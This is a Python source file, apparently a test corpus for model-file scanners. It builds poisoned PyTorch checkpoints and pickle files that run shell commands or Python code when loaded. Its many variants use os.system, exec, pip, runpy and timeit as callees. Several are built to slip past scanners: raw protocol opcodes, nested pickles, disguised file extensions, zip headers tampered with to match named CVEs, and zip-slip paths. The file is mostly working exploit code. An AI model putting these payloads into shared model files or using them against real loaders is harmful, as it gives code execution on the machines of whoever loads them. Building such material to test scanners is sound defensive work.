"""Pickles: what their opcodes may call, and the files they hide in."""

from __future__ import annotations

import argparse
import functools
import io
import operator
import os
import pickle
import pickletools
import runpy
import tarfile
import timeit
import zipfile
from collections import OrderedDict
from pathlib import Path
from typing import Any

import numpy as np
import torch
from attack_place import Place, attack


class Call:
    """Pickles to a call."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> Any:
        return self.call


def saved(content: Any, path: Path, **options: Any) -> Path:
    torch.save(content, path, **options)
    return path


def bare(content: bytes, path: Path) -> Path:
    path.write_bytes(content)
    return path


WEIGHTS = {"conv1.weight": torch.zeros(2, 1, 3, 3)}


@attack("pickle: os.system by reduce, in an archive", naive="torch.load", trusted=True)
def system(place: Place) -> Path:
    return saved({**WEIGHTS, "x": Call(os.system, place.shell)}, place.folder / "net.pt")


@attack("pickle: exec of Python", naive="torch.load", trusted=True)
def execute(place: Place) -> Path:
    return saved({**WEIGHTS, "x": Call(exec, place.code)}, place.folder / "net.pth")


@attack("pickle: posix.system in protocol 0", naive="torch.load")
def protocol_0(place: Place) -> Path:
    return bare(f"cposix\nsystem\n(S'{place.shell}'\ntR.".encode(), place.folder / "net.pt")


@attack("pickle: a call as a weight of the state dict", naive="torch.load", trusted=True)
def in_state_dict(place: Place) -> Path:
    state = OrderedDict(WEIGHTS)
    return saved({"state_dict": {**state, "conv1.bias": Call(exec, place.code)}}, place.folder / "net.pth")


@attack("pickle: a call among the hyperparameters of a checkpoint", naive="torch.load")
def hyperparameters(place: Place) -> Path:
    content = {"state_dict": WEIGHTS, "hyper_parameters": {"lr": Call(exec, place.code)}, "epoch": 3}
    return saved(content, place.folder / "last.ckpt")


@attack("pickle: protocol 2, bare", naive="torch.load")
def protocol_2(place: Place) -> Path:
    return bare(pickle.dumps(Call(exec, place.code), protocol=2), place.folder / "net.pt")


@attack("pickle: protocol 5 with names from the memo", naive="torch.load")
def protocol_5(place: Place) -> Path:
    parts = [
        b"\x80\x05",
        _text("system"),
        b"\x940",
        _text("posix"),
        b"\x94h\x00\x93",
        _text(place.shell),
        b"\x85R.",
    ]
    content = b"".join(parts)
    pickletools.dis(content, io.StringIO())
    return bare(content, place.folder / "net.pt")


def _text(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


@attack("pickle: an object array of numpy", naive="torch.load")
def object_array(place: Place) -> Path:
    array = np.array([Call(exec, place.code)], dtype=object)
    return saved({**WEIGHTS, "mean": array}, place.folder / "net.pt")


@attack("pickle: torch's old format", naive="torch.load", trusted=True)
def old_format(place: Place) -> Path:
    content = {**WEIGHTS, "x": Call(exec, place.code)}
    return saved(content, place.folder / "net.pt", _use_new_zipfile_serialization=False)


@attack("pickle: torch's oldest format, a tar archive", naive="torch.load", trusted=True)
def tar_format(place: Place) -> Path:
    path = place.folder / "net.pt"
    with tarfile.open(path, "w") as archive:
        for name, content in (
            ("sys_info", pickle.dumps({"little_endian": True}, 2)),
            ("storages", pickle.dumps(0, 2) + pickle.dumps([], 2)),
            ("tensors", pickle.dumps(0, 2)),
            ("pickle", pickle.dumps(Call(exec, place.code), 2)),
        ):
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return path


@attack("pickle: functools.partial and operator.methodcaller", naive="torch.load")
def chain(place: Place) -> Path:
    call = Call(operator.methodcaller("__call__"), functools.partial(os.system, place.shell))
    return saved({**WEIGHTS, "x": call}, place.folder / "net.pt")


@attack("pickle: operator.attrgetter on an imported module", naive="torch.load")
def attribute(place: Place) -> Path:
    module = Call(__import__, "os")
    system = Call(operator.attrgetter("system"), module)
    return saved({**WEIGHTS, "x": Call(map_all, system, place.shell)}, place.folder / "net.pt")


def map_all(function: Any, argument: str) -> list[Any]:
    return [function(argument)]


@attack("pickle: getattr of builtins", naive="torch.load", trusted=True)
def get_attribute(place: Place) -> Path:
    # c builtins getattr ( c builtins __import__ ( 'os' t R 'system' t R ( command t R
    text = f"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'{place.shell}'\ntR."
    return bare(text.encode(), place.folder / "net.pt")


@attack("pickle: a call in the state of an allowed Namespace", naive="torch.load")
def namespace(place: Place) -> Path:
    content = {
        "args": argparse.Namespace(lr=Call(exec, place.code)),
        "iteration": 1,
        "model_state_dict": WEIGHTS,
    }
    return saved(content, place.folder / "net.pt")


@attack("pickle: pickle.loads of bytes inside (CVE-2025-1889)", naive="torch.load", trusted=True)
def nested(place: Place) -> Path:
    inner = pickle.dumps(Call(exec, place.code))
    return saved({**WEIGHTS, "x": Call(pickle.loads, inner)}, place.folder / "net.pt")


@attack("pickle: pip as the callee (CVE-2025-1716)")
def pip(place: Place) -> Path:
    text = f"cpip\nmain\n((lS'download'\naS'--log'\naS'{place.mark}'\naS'{place.secret}'\natR."
    return bare(text.encode(), place.folder / "net.pt")


@attack("pickle: names of an archive that differ in its directory (CVE-2025-1944)", trusted=True)
def two_names(place: Place) -> Path:
    path = execute(place)
    content = path.read_bytes()
    at = content.index(b"data.pkl")
    return bare(content[:at] + b"data.txt" + content[at + 8 :], path)


@attack("pickle: archive with flags of encryption (CVE-2025-1945)", trusted=True)
def flags(place: Place) -> Path:
    path = execute(place)
    content = bytearray(path.read_bytes())
    for head, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(head)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(head, at + 4)
    return bare(bytes(content), path)


@attack("pickle: archive with wrong checksums (CVE-2025-10156)", trusted=True)
def checksums(place: Place) -> Path:
    path = execute(place)
    content = bytearray(path.read_bytes())
    at = content.find(b"PK\x01\x02")
    content[at + 16] ^= 255
    return bare(bytes(content), path)


@attack("pickle: under the name of another kind (CVE-2025-10155)", naive="torch.load")
def other_name(place: Place) -> Path:
    return bare(pickle.dumps(Call(exec, place.code)), place.folder / "pytorch_model.bin")


@attack("pickle: under the name of safetensors", naive="pickle")
def as_safetensors(place: Place) -> Path:
    return bare(pickle.dumps(Call(exec, place.code)), place.folder / "net.safetensors")


@attack("pickle: under the name of ONNX", naive="torch.load")
def as_onnx(place: Place) -> Path:
    return bare(pickle.dumps(Call(exec, place.code)), place.folder / "net.onnx")


@attack("pickle: timeit, which no list of bad names has", naive="torch.load")
def timed(place: Place) -> Path:
    return saved(
        {**WEIGHTS, "x": Call(timeit.timeit, "0", place.code, timeit.default_timer, 1)},
        place.folder / "net.pt",
    )


@attack("pickle: runpy on a file beside it", naive="torch.load")
def run_file(place: Place) -> Path:
    (place.folder / "beside.py").write_text(place.code)
    call = Call(runpy.run_path, str(place.folder / "beside.py"))
    return saved({**WEIGHTS, "x": call}, place.folder / "net.pt")


@attack("pickle: archive whose entries lead out", naive="torch.load")
def slip(place: Place) -> Path:
    path = execute(place)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(f"net/../../../watched/{place.mark.name}", b"x")
    return path
